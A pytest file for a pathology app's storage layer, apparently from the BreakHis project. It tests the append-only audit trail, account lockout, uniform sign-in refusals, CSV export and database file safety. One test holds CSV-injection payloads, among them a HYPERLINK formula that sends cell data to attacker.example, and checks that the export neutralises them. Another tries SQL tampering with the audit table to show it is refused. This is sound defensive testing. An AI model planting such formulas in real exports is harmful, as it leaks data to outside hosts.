"""The store on SQLite and on a real PostgreSQL server: migrations, the append-only audit trail,
accounts and the lock, refusals of damaged, read-only and newer databases, concurrent writers."""

import csv
import datetime
import io
import os
import re
import sqlite3
import threading
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import delete, text, update
from sqlalchemy.exc import DBAPIError

from core.store import accounts, db
from core.store.audit import AppendOnlyError, Store
from core.store.db import StoreError, current_revision, make_engine, revisions, upgrade
from core.store.models import AuditEvent


def test_open_migrates_to_head_and_sqlite_uses_wal(store, store_url):
    _, head = revisions()
    assert current_revision(store.engine) == head
    Store.open(store_url).close()  # a second open is a no-op, not a failure
    if store.engine.dialect.name == "sqlite":
        with store.engine.connect() as connection:
            assert connection.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"


def test_record_and_read_back_with_filters(store):
    accounts.add_account(store, "bob", "correct horse", "pathologist")  # a review names an account
    first = store.record("diagnosis", "ann", "a.png", image_sha256="a" * 64, model="m", model_sha256="b" * 64,
                         details={"call": "malignant", "p": {"malignant": 0.9}})
    second = store.record("review", "bob", "a.png", refers_to=first, details={"stage1": "agree"})
    store.record("sign_in", "bob")
    assert second > first
    rows = store.events(kinds="diagnosis")
    assert [r["id"] for r in rows] == [first]
    assert rows[0]["details"]["p"]["malignant"] == 0.9 and rows[0]["at"].tzinfo is not None
    assert rows[0]["app_version"]
    assert [r["id"] for r in store.events(user="bob", kinds=["review", "sign_in"], newest_first=False)][0] == second
    assert [r["id"] for r in store.events(refers_to=first)] == [second]
    later = datetime.datetime.now(datetime.UTC) + datetime.timedelta(hours=1)
    assert store.events(since=later) == []
    csv = store.csv(kinds="diagnosis").decode("utf-8-sig")
    assert csv.splitlines()[0].startswith("id,at,kind,user") and '"{""call"": ""malignant""' in csv
    with pytest.raises(ValueError, match="unknown audit kind"):
        store.record("made_up", "ann")


def test_the_audit_log_filters_an_audit_id_with_its_reviews_and_a_subject_in_any_case(store):
    accounts.add_account(store, "bob", None, "pathologist")
    result = store.record("diagnosis", "ann", "SOB_M_DC-14-2523-40-010.png")
    review = store.record("review", "bob", "SOB_M_DC-14-2523-40-010.png", refers_to=result)
    other = store.record("diagnosis", "ann", "scan 50%_a.png")
    store.record("diagnosis", "ann", "scan 500_a.png")
    assert [r["id"] for r in store.events(audit_id=result, newest_first=False)] == [result, review]
    assert [r["id"] for r in store.events(subject_contains="dc-14-2523", kinds="diagnosis")] == [result]
    assert [r["id"] for r in store.events(subject_contains="50%_")] == [other]  # % and _ are plain text


def test_csv_export_makes_formulas_inert_and_keeps_the_rows(store):
    # A failed sign-in's name and an upload's file name are chosen by whoever types them.
    formulas = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+1", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1"]
    for typed in formulas:
        store.record("sign_in_failed", typed, details={"reason": "unknown account"})
        store.record("diagnosis", "ann", typed + ".png", details={"call": "benign"})
    store.record("diagnosis", "ann", "a-b=c.png", details={"call": "benign"})
    store.record("sign_in_failed", "x\r=1+1", details={"reason": "unknown account"})  # a CR must start no new row
    exported = list(csv.DictReader(io.StringIO(store.csv(newest_first=False).decode("utf-8-sig"), newline="")))
    users = [r["user"] for r in exported if r["kind"] == "sign_in_failed"]
    subjects = [r["subject"] for r in exported if r["kind"] == "diagnosis"]
    assert users == ["'" + typed for typed in formulas] + ["x\r=1+1"]
    assert subjects == ["'" + typed + ".png" for typed in formulas] + ["a-b=c.png"]  # only a cell's start matters
    assert len(exported) == 2 * len(formulas) + 2 and all(r["details"].startswith("{") for r in exported)
    # The trail itself and the page's table keep the text as it was recorded.
    assert [r["user"] for r in store.events(kinds="sign_in_failed", newest_first=False)] == formulas + ["x\r=1+1"]
    assert list(store.frame(kinds="sign_in_failed", newest_first=False)["user"]) == formulas + ["x\r=1+1"]


def test_csv_export_starts_with_a_byte_order_mark_and_reads_back_the_same_rows(store):
    """Excel reads a CSV without a BOM in the machine's legacy code page: non-ASCII names were garbled."""
    names = ["Zoë Müller", "李医生", "=Ørsted"]
    for name in names:
        store.record("sign_in_failed", name, details={"reason": "unknown account"})
        store.record("diagnosis", "ann", name + " – biopsie.png", details={"call": "benign"})
    exported = store.csv(newest_first=False)
    assert exported.startswith(b"\xef\xbb\xbf") and not exported.startswith(b"\xef\xbb\xbf" * 2)
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert list(rows[0])[0] == "id"  # the BOM is no part of the first column's name
    assert [r["user"] for r in rows if r["kind"] == "sign_in_failed"] == names[:2] + ["'=Ørsted"]
    assert [r["subject"] for r in rows if r["kind"] == "diagnosis"] == [
        "Zoë Müller – biopsie.png", "李医生 – biopsie.png", "'=Ørsted – biopsie.png"]
    frame = pd.read_csv(io.BytesIO(exported), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(store.frame().columns) and frame.to_dict("records") == rows
    assert [int(r["id"]) for r in rows] == [e["id"] for e in store.events(newest_first=False)]


def test_audit_rows_cannot_be_changed_by_the_orm_or_by_sql(store):
    audit_id = store.record("diagnosis", "ann", "a.png", details={"call": "benign"})
    with store.session() as session:
        row = session.get(AuditEvent, audit_id)
        row.details = {"call": "malignant"}
        with pytest.raises(AppendOnlyError):
            session.commit()
    with store.session() as session:
        session.delete(session.get(AuditEvent, audit_id))
        with pytest.raises(AppendOnlyError):
            session.commit()
    with store.session() as session, pytest.raises(AppendOnlyError):
        session.execute(update(AuditEvent).values(user="mallory"))
    with store.session() as session, pytest.raises(AppendOnlyError):
        session.execute(delete(AuditEvent))
    # Below the ORM: the database trigger refuses a hand-written statement.
    # ... also a row written over by id: SQLite's REPLACE deletes without firing DELETE triggers, and
    # an upsert updates (both dialects).
    columns = "(id, at, kind, \"user\", details)"
    values = f"({audit_id}, '2026-01-01 00:00:00', 'diagnosis', 'mallory', '{{\"call\": \"malignant\"}}')"
    replace = (f"INSERT OR REPLACE INTO audit {columns} VALUES {values}" if store.engine.dialect.name == "sqlite"
               else None)
    upsert = f"INSERT INTO audit {columns} VALUES {values} ON CONFLICT (id) DO UPDATE SET \"user\" = 'mallory'"
    for statement in ("UPDATE audit SET \"user\" = 'mallory'", "DELETE FROM audit", replace, upsert):
        if statement is None:
            continue
        with store.engine.connect() as connection, pytest.raises(DBAPIError, match="append-only"):
            connection.execute(text(statement))
    assert store.event(audit_id)["details"] == {"call": "benign"} and store.event(audit_id)["user"] == "ann"


def test_accounts_sign_in_lock_and_changes(store):
    assert not accounts.has_accounts(store)
    accounts.add_account(store, "admin1", "correct horse", "admin")
    with pytest.raises(ValueError, match="already exists"):
        accounts.add_account(store, "admin1", "another pass", "admin")
    with pytest.raises(ValueError, match="at least 8"):
        accounts.add_account(store, "short", "1234", "pathologist")
    with pytest.raises(ValueError, match="role"):
        accounts.add_account(store, "x", "long enough", "superuser")
    assert accounts.sign_in(store, "admin1", "correct horse") == {"name": "admin1", "role": "admin"}
    with pytest.raises(accounts.SignInError, match="Wrong name or password"):
        accounts.sign_in(store, "nobody", "correct horse")
    now = datetime.datetime.now(datetime.UTC)
    for _ in range(accounts.MAX_FAILURES):
        with pytest.raises(accounts.SignInError, match="Wrong name or password"):
            accounts.sign_in(store, "admin1", "wrong", now)
    with pytest.raises(accounts.SignInError):  # even the right password, during the lock
        accounts.sign_in(store, "admin1", "correct horse", now + datetime.timedelta(seconds=30))
    assert accounts.sign_in(store, "admin1", "correct horse", now + datetime.timedelta(seconds=61))["role"] == "admin"
    accounts.change_account(store, "admin1", "admin1", active=False)
    with pytest.raises(accounts.SignInError):
        accounts.sign_in(store, "admin1", "correct horse")
    failures = store.events(kinds="sign_in_failed", newest_first=False)
    assert [f["details"]["reason"] for f in failures] == ["unknown account"] + ["wrong password"] * (
        accounts.MAX_FAILURES - 1) + ["wrong password; locked", "locked", "disabled"]
    changes = store.events(kinds="account", newest_first=False)
    assert [c["details"]["change"] for c in changes] == ["created", "updated"]
    # No password or hash in any audit row or listing.
    dump = store.csv() + repr(accounts.list_accounts(store)).encode()
    assert b"correct horse" not in dump and b"argon2" not in dump


def test_wrong_passwords_that_arrive_together_still_lock_the_account(store):
    # Each Streamlit session runs in its own thread: the guesses of several tabs or a script arrive
    # together. A count kept in Python (read, add 1, write) let them overwrite each other on SQLite.
    accounts.add_account(store, "ann", "correct horse", "pathologist")
    guesses = 2 * accounts.MAX_FAILURES
    together = threading.Barrier(guesses)

    def guess(n):
        together.wait()
        with pytest.raises(accounts.SignInError):
            accounts.sign_in(store, "ann", f"wrong guess {n}")

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(guesses)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    reasons = [f["details"]["reason"] for f in store.events(kinds="sign_in_failed")]
    assert sorted(reasons) == sorted(["wrong password"] * (accounts.MAX_FAILURES - 1) + ["wrong password; locked"]
                                     + ["locked"] * (guesses - accounts.MAX_FAILURES))
    assert accounts.list_accounts(store)[0]["locked_until"] is not None
    with pytest.raises(accounts.SignInError):
        accounts.sign_in(store, "ann", "correct horse")
    assert store.events(kinds="sign_in_failed", limit=1)[0]["details"] == {"reason": "locked"}


def test_every_refused_sign_in_says_the_same_thing_at_the_same_cost(store, monkeypatch):
    """An unknown name, a wrong password, a locked account (even with the right password), a disabled
    account (right or wrong password), an account for single sign-on only: one message and one
    password hash each, so neither the answer nor its time tells which names exist, and a disabled
    account's password is not confirmed. The message names every case, so a locked or disabled user
    knows what to do; the audit row gives the administrators the real reason."""
    accounts.add_account(store, "pat", "correct horse", "pathologist")
    accounts.add_account(store, "gone", "correct horse", "pathologist")
    accounts.change_account(store, "gone", accounts.SYSTEM, active=False)
    accounts.add_account(store, "eve@hospital.org", None, "pathologist")
    hashes = []
    real_verify = accounts._verify
    monkeypatch.setattr(accounts, "_verify", lambda stored, password: hashes.append(1) or real_verify(stored, password))
    now, said, costs = datetime.datetime.now(datetime.UTC), set(), []
    attempts = [("pat", "wrong"), ("nobody", "wrong")] * accounts.MAX_FAILURES + [
        ("pat", "correct horse"), ("gone", "correct horse"), ("gone", "wrong"), ("eve@hospital.org", "x" * 8)]
    for name, password in attempts:
        hashes.clear()
        with pytest.raises(accounts.SignInError) as refused:
            accounts.sign_in(store, name, password, now)
        said.add(str(refused.value))
        costs.append(len(hashes))
    assert said == {accounts.REFUSED} and costs == [1] * len(attempts)
    assert "locked" in accounts.REFUSED and "disabled" in accounts.REFUSED and "administrator" in accounts.REFUSED
    reasons = [f["details"]["reason"] for f in store.events(kinds="sign_in_failed", newest_first=False)]
    assert reasons[-4:] == ["locked", "disabled", "wrong password", "sso-only account"]


def test_an_unknown_name_is_recorded_masked_not_as_typed(store):
    """The text typed as an unknown name may be a password put in the wrong box, and the trail is
    append-only: it is recorded as "unknown:" and a short keyed hash (the same text gives the same
    tag, so repeated tries can be followed; without the deployment's key the tag cannot be checked
    against guesses). A known name is recorded as itself."""
    accounts.add_account(store, "pat", "correct horse", "pathologist")
    key = b"k" * 40
    for name in ("my secret password", "my secret password", "pat", "another name"):
        with pytest.raises(accounts.SignInError):
            accounts.sign_in(store, name, "wrong password", key=key)
    with pytest.raises(accounts.SignInError):
        accounts.sign_in(store, "my secret password", "wrong password", key=b"j" * 40)
    users = [f["user"] for f in store.events(kinds="sign_in_failed", newest_first=False)]
    assert all(re.fullmatch(r"unknown:[0-9a-f]{10}", users[i]) for i in (0, 1, 3, 4)), users
    assert users[0] == users[1] and users[2] == "pat" and len({users[0], users[3], users[4]}) == 3
    assert b"my secret password" not in store.csv()


def test_single_sign_on_reaches_only_active_accounts_made_for_it(store):
    accounts.add_account(store, "chief@hospital.org", "correct horse", "admin")
    accounts.add_account(store, "sso@hospital.org", None, "pathologist")
    accounts.add_account(store, "gone@hospital.org", None, "pathologist")
    accounts.change_account(store, "gone@hospital.org", accounts.SYSTEM, active=False)
    assert accounts.sso_account(store, "sso@hospital.org") == {"name": "sso@hospital.org", "role": "pathologist"}
    for name in ("chief@hospital.org", "gone@hospital.org", "nobody@hospital.org", ""):
        assert accounts.sso_account(store, name) is None, name


def test_roles_permissions():
    assert accounts.can("admin", "retrain") and accounts.can("admin", "diagnose")
    assert accounts.can("pathologist", "review")
    for action in ("retrain", "activate_model", "audit", "accounts", "compare"):
        assert not accounts.can("pathologist", action)
    assert not accounts.can(None, "diagnose")


def test_concurrent_writers_lose_nothing(store):
    errors, ids = [], []

    def write(worker):
        try:
            for n in range(15):
                ids.append(store.record("diagnosis", f"user{worker}", f"{worker}-{n}.png"))
        except Exception as problem:  # noqa: BLE001 - collected and asserted below
            errors.append(problem)

    threads = [threading.Thread(target=write, args=(w,)) for w in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(set(ids)) == 120 and len(store.events(kinds="diagnosis")) == 120


def test_a_newer_database_is_refused_and_left_unchanged(store, store_url):
    store.record("sign_in", "ann")
    with store.engine.begin() as connection:
        connection.execute(text("UPDATE alembic_version SET version_num = '9999'"))
    with pytest.raises(StoreError, match="newer version of the app.*9999"):
        Store.open(store_url)
    assert current_revision(store.engine) == "9999" and len(store.events()) == 1


def test_damaged_and_read_only_sqlite_files_are_refused_untouched(tmp_path, monkeypatch):
    damaged = tmp_path / "damaged.db"
    damaged.write_bytes(b"this is not a database" * 100)
    with pytest.raises(StoreError, match="not an SQLite database"):
        Store.open(f"sqlite:///{damaged}")
    assert damaged.read_bytes() == b"this is not a database" * 100
    # A real SQLite header over a damaged body: caught when the migration reads it.
    good = tmp_path / "good.db"
    Store.open(f"sqlite:///{good}").close()
    body = bytearray(good.read_bytes())
    body[100:4096] = b"\xff" * (4096 - 100)
    broken = tmp_path / "broken.db"
    broken.write_bytes(bytes(body))
    with pytest.raises(StoreError, match="damaged|cannot be opened"):
        upgrade(make_engine(f"sqlite:///{broken}"))
    assert broken.read_bytes() == bytes(body)
    read_only = tmp_path / "ro" / "breakhis.db"
    read_only.parent.mkdir()
    sqlite3.connect(read_only).close()
    read_only.chmod(0o444)
    if os.geteuid() == 0:  # root may write anything (CI runs as root): let the check see what a user would
        real_access = os.access
        monkeypatch.setattr(db.os, "access", lambda p, mode: real_access(p, mode) and Path(p) != read_only)
    before = read_only.read_bytes()
    with pytest.raises(StoreError, match="read-only"):
        Store.open(f"sqlite:///{read_only}")
    assert read_only.read_bytes() == before


def test_sqlite_file_and_folder_created_on_first_start(tmp_path, monkeypatch):
    monkeypatch.setenv("BREAKHIS_DATA_DIR", str(tmp_path / "fresh" / "data"))
    monkeypatch.delenv("BREAKHIS_DATABASE_URL", raising=False)
    Store.open().close()
    assert (tmp_path / "fresh" / "data" / "breakhis.db").is_file()


@pytest.mark.parametrize("left", [["session.key"], ["images/"], ["session.key", "images/"]])
def test_a_missing_database_beside_an_earlier_deployments_files_is_refused_not_made_anew(left, tmp_path, monkeypatch,
                                                                                         capsys):
    """A data folder that kept session.key or images/ but lost breakhis.db (a failed mount, a restore without it)
    got a new empty database, and the app said "First start": every account and audit row gone, silently. Now
    nothing is made until `db upgrade` is asked for."""
    from core.cli import main

    folder = tmp_path / "data"
    folder.mkdir()
    for name in left:
        (folder / name).mkdir() if name == "images/" else (folder / name).write_text("k" * 64)
    monkeypatch.setenv("BREAKHIS_DATA_DIR", str(folder))
    monkeypatch.delenv("BREAKHIS_DATABASE_URL", raising=False)
    with pytest.raises(StoreError, match=f"the database {folder / 'breakhis.db'} is missing, but its folder holds an "
                                         f"earlier deployment's {' and '.join(left)}.*restore it from a backup.*"
                                         "`python -m core db upgrade`"):
        Store.open()
    assert main(["db", "status"]) == 2 and "is missing" in capsys.readouterr().err
    assert main(["users", "list"]) == 2 and "is missing" in capsys.readouterr().err
    assert not (folder / "breakhis.db").exists()
    assert main(["db", "upgrade"]) == 0 and (folder / "breakhis.db").is_file()  # deliberately
    Store.open().close()


def test_the_data_folder_and_the_database_files_are_private(tmp_path):
    """They hold the audit trail (patient file names) and the password hashes: the folder is made 0700
    and breakhis.db, -wal and -shm are 0600, like session.key; a file left readable by others (an
    earlier version, a restored copy) is tightened on the next start."""
    import stat

    def mode(path):
        return stat.S_IMODE(path.stat().st_mode)

    previous = os.umask(0o022)  # the usual umask, which leaves new files readable by everyone
    try:
        folder = tmp_path / "fresh" / "data"
        store = Store.open(f"sqlite:///{folder / 'breakhis.db'}")
        store.record("sign_in", "ann")
        files = [folder / name for name in ("breakhis.db", "breakhis.db-wal", "breakhis.db-shm")]
        assert mode(folder) == 0o700 and [mode(f) for f in files] == [0o600] * 3
        for file in files:
            file.chmod(0o644)
        second = Store.open(f"sqlite:///{folder / 'breakhis.db'}")
        assert [mode(f) for f in files] == [0o600] * 3 and len(second.events()) == 1
        second.close()
        store.close()
    finally:
        os.umask(previous)
